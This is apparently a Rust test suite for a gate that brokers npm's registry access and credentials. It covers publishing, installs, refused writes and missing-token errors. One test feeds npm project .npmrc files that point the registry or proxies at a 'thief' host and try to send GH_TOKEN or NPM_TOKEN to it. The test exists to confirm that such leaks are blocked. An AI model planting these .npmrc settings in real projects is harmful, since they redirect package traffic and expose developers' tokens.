//! npm itself through the gate, with a registry that is real.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice,
    clippy::print_stdout,
    clippy::cast_possible_truncation,
    clippy::cast_sign_loss,
    clippy::disallowed_methods,
    clippy::large_futures,
    reason = "a panic is how a test fails, and starting programs is its job"
)]

mod registry;
mod stage;

use std::path::PathBuf;
use std::process::{Command, Output, Stdio};

use registry::Registry;
use stage::{Stage, gate, run, text};
use tempfile::TempDir;
use tool_gate::upstream::Upstream;
use tool_gate::{Answer, Request, door};
use tool_policy::definition::gate::{Adapter, Credential};

/// npm, a gate, a registry.
struct Shop {
    dir: TempDir,
    stage: Stage,
    registry: Registry,
}

impl Shop {
    async fn new() -> Option<Shop> {
        Shop::of(|request| vec![Answer::Allowed; request.parts.len()]).await
    }

    async fn of(decide: impl Fn(&Request) -> Vec<Answer> + Send + Sync + 'static) -> Option<Shop> {
        let dir = tempfile::tempdir().unwrap();
        for name in ["home", "registry"] {
            std::fs::create_dir(dir.path().join(name)).unwrap();
        }
        let registry = Registry::start(&dir.path().join("registry"))?;
        let token = dir.path().join("token");
        std::fs::write(&token, &registry.token).unwrap();
        let mut gate = gate(Adapter::Npm, &["registry.npmjs.org"]);
        gate.upstream = Some(registry.url.clone());
        gate.credential = Some(Credential::File(token));
        let stage = Stage::with(vec![gate], Upstream::default(), decide).await;
        Some(Shop { dir, stage, registry })
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// A folder with these files.
    fn folder(&self, name: &str, files: &[(&str, &str)]) {
        std::fs::create_dir_all(self.path(name)).unwrap();
        for (file, text) in files {
            std::fs::write(self.path(name).join(file), text).unwrap();
        }
    }

    async fn npm(&self, folder: &str, line: &str) -> Output {
        let mut command = Command::new("npm");
        let path = std::env::var_os("PATH").unwrap();
        command.env_clear().env("PATH", path).env("HOME", self.path("home"));
        command.env("NPM_CONFIG_UPDATE_NOTIFIER", "false").env("npm_config_audit", "false");
        let grant = &self.stage.grant;
        command.envs(door::environment(&grant.gates, &grant.door));
        command.current_dir(self.path(folder)).args(line.split(' ')).stdin(Stdio::null());
        run(command).await
    }

    async fn works(&self, folder: &str, line: &str) -> String {
        let output = self.npm(folder, line).await;
        let (out, error) = (text(&output.stdout), text(&output.stderr));
        assert!(output.status.success(), "npm {line}: {out}{error}\n{:?}", self.stage.refused());
        assert!(!format!("{out}{error}").contains(&self.registry.token));
        out.to_owned()
    }

    /// What was asked for since the last time, that changes something.
    fn changes(&self) -> Vec<String> {
        let asked = std::mem::take(&mut *self.stage.judge.asked.lock().unwrap());
        let parts = asked.into_iter().flat_map(|request| request.parts);
        let word = |part: &tool_gate::Part, name| {
            String::from_utf8(part.facts.get(name).to_bytes()).unwrap()
        };
        parts
            .filter(|part| part.changes)
            .map(|part| format!("{} {}", word(&part, "change"), word(&part, "package")))
            .collect()
    }

    /// Two packages, one of them private and in need of the other.
    async fn fill(&self) {
        self.folder("left", &[("package.json", r#"{"name":"left","version":"1.0.0"}"#)]);
        self.folder("priv", &[
            ("package.json", r#"{"name":"@own/priv","version":"1.0.0","dependencies":{"left":"*"},"bin":{"priv":"run.js"}}"#),
            ("run.js", "#!/usr/bin/env node\nconsole.log('it ran')\n"),
        ]);
        self.works("left", "publish").await;
        assert_eq!(self.changes(), ["publish left"]);
        self.works("priv", "publish").await;
        assert_eq!(self.changes(), ["publish @own/priv"]);
    }
}

const APP: &str = r#"{"name":"app","version":"1.0.0"}"#;

#[tokio::test]
async fn an_ordinary_day_of_npm() {
    let Some(shop) = Shop::new().await else { return };
    shop.fill().await;
    shop.folder("app", &[("package.json", APP)]);
    shop.works("app", "install @own/priv").await;
    let lock = std::fs::read_to_string(shop.path("app/package-lock.json")).unwrap();
    let private = "\"resolved\": \"https://registry.npmjs.org/@own/priv/-/priv-1.0.0.tgz\"";
    assert!(lock.contains(private), "{lock}");
    assert!(lock.contains("\"resolved\": \"https://registry.npmjs.org/left/-/left-1.0.0.tgz\""));
    // From the lock file alone, with nothing kept.
    std::fs::remove_dir_all(shop.path("home/.npm")).unwrap();
    shop.works("app", "ci").await;
    assert!(shop.path("app/node_modules/@own/priv/run.js").exists());
    assert_eq!(std::fs::read_to_string(shop.path("app/package-lock.json")).unwrap(), lock);
    assert_eq!(shop.works("app", "exec --yes -- @own/priv").await, "it ran\n");
    assert_eq!(shop.works("app", "view @own/priv version").await, "1.0.0\n");
    assert_eq!(shop.works("app", "whoami").await, "me\n");
    for line in [
        "ping",
        "outdated",
        "search left",
        "dist-tag ls left",
        "pack left",
        "profile get",
        "token list",
    ] {
        shop.works("app", line).await;
    }
    assert_eq!(shop.changes(), Vec::<String>::new());
    for (line, change) in [
        ("dist-tag add left@1.0.0 beta", "dist-tag left"),
        ("dist-tag rm left beta", "dist-tag left"),
        ("deprecate left@1.0.0 old", "publish left"),
        ("unpublish @own/priv --force", "unpublish @own/priv"),
    ] {
        shop.works("app", line).await;
        assert_eq!(shop.changes(), [change], "{line}");
    }
    assert_eq!(shop.stage.refused(), []);
}

#[tokio::test]
async fn what_is_refused_is_what_npm_prints() {
    let refuse = |request: &Request| {
        let answer = |part: &tool_gate::Part| match part.changes {
            true => Answer::Refused {
                rule: "publish".to_owned(),
                reason: "it stays for ever".to_owned(),
                instead: Some("say that it is ready".to_owned()),
            },
            false => Answer::Allowed,
        };
        request.parts.iter().map(answer).collect()
    };
    let Some(shop) = Shop::of(refuse).await else { return };
    shop.folder("left", &[("package.json", r#"{"name":"left","version":"1.0.0"}"#)]);
    let output = shop.npm("left", "publish").await;
    let error = text(&output.stderr);
    assert!(!output.status.success());
    let told = "refused by the broker: it stays for ever: say that it is ready";
    assert!(error.contains(told), "{error}");
    let output = shop.npm("left", "view left").await;
    assert!(text(&output.stderr).contains("E404"), "{}", text(&output.stderr));
    for line in ["login --auth-type=legacy", "login", "adduser", "token create"] {
        let output = shop.npm("left", line).await;
        assert!(!output.status.success(), "{line}");
    }
}

#[tokio::test]
async fn a_projects_own_npmrc_leads_nowhere() {
    let Some(shop) = Shop::new().await else { return };
    shop.fill().await;
    let thief = stage::Host::saying("{}").await;
    let evil = thief.url();
    for npmrc in [
        format!("registry={evil}/\n"),
        format!("registry={evil}/${{HOME}}\n//{}/:_authToken=${{GH_TOKEN}}\n", thief.address),
        format!("proxy=\nhttps-proxy=\nnoproxy=*\nregistry={evil}/\n"),
        format!("proxy={evil}\nhttps-proxy={evil}\n"),
        "//registry.npmjs.org/:_authToken=stolen\n".to_owned(),
        "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n".to_owned(),
        "replace-registry-host=never\n".to_owned(),
    ] {
        shop.folder("app", &[("package.json", APP), (".npmrc", &npmrc)]);
        assert_eq!(shop.works("app", "view @own/priv version").await, "1.0.0\n", "{npmrc}");
        drop(std::fs::remove_dir_all(shop.path("app")));
    }
    // A scope of its own goes to the gate, which does not know the host.
    let npmrc = format!("@own:registry={evil}/\n");
    shop.folder("app", &[("package.json", APP), (".npmrc", &npmrc)]);
    let output = shop.npm("app", "view @own/priv version").await;
    assert!(!output.status.success(), "{}", text(&output.stdout));
    assert_eq!(thief.seen().len(), 0, "{:?}", thief.seen());
}

#[tokio::test]
async fn npm_says_which_credential_is_not_there() {
    let Some(shop) = Shop::new().await else { return };
    shop.fill().await;
    shop.folder("left", &[("package.json", r#"{"name":"left","version":"1.0.1"}"#)]);
    std::fs::remove_file(shop.path("token")).unwrap();
    let said = format!("the credential file:{} is not there", shop.path("token").display());
    for line in ["publish", "view @own/priv"] {
        let output = shop.npm("left", line).await;
        let error = text(&output.stderr);
        assert!(!output.status.success() && error.contains(&said), "{line}: {error}");
    }
    shop.works("left", "view left").await;
}
